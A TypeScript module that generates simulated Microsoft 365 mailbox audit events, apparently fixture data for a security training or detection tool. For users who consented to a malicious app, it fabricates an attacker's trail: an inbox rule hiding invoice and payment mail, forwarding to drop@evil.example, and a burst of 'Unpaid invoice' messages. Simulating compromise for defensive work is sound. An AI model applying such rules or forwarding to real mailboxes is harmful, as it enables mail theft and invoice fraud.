import type { Grant } from './account-objects.ts'
import { apps, grantsOf, type Owner, seededChance } from './account-objects.ts'

/** An event in a mailbox, as Microsoft 365 audits it. */
export interface MailEvent {
  readonly operation: string
  /** ISO 8601. */
  readonly at: string
  readonly type?: 'exchangeAdmin' | 'exchangeItem'
  /** As given with a cmdlet. */
  readonly parameters?: Readonly<Record<string, string>>
  /** The form in which Outlook reports it instead. */
  readonly properties?: Readonly<Record<string, string>>
  /** The subject of a message; audited, although nobody needs to read it. */
  readonly subject?: string
}

type MailOwner = Owner & {
  readonly grants: readonly Grant[] | undefined
  readonly mailEvents: readonly MailEvent[] | undefined
}

const hour = 3_600_000

/**
 * Recent events in someone's mailbox. People who consented to the malicious app had a rule created and messages sent.
 */
export function mailEventsOf(person: MailOwner, now: number): readonly MailEvent[] {
  if (person.mailEvents) return person.mailEvents
  if (person.userType === 'Guest') return []
  const chance = seededChance(person, 6)
  const ago = (hours: number) => new Date(now - hours * hour).toISOString()
  const messages = (count: number, subject: string): MailEvent[] =>
    Array.from({ length: count }, (_, index) => ({
      operation: 'Send',
      at: ago(3 + 5 * index),
      type: 'exchangeItem',
      subject,
    }))
  const usual = messages(Math.floor(chance() * 8), 'Minutes')
  if (!grantsOf(person).some(({ clientId }) => clientId === apps.mailSync.id)) return usual
  return [
    ...usual,
    {
      operation: 'New-InboxRule',
      at: ago(40),
      parameters: { Name: '..', MoveToFolder: 'RSS Feeds', SubjectOrBodyContainsWords: 'invoice;payment' },
    },
    {
      operation: 'Set-Mailbox',
      at: ago(38),
      parameters: { Identity: 'me', ForwardingSmtpAddress: 'smtp:drop@evil.example' },
    },
    ...messages(12, 'Unpaid invoice'),
  ]
}
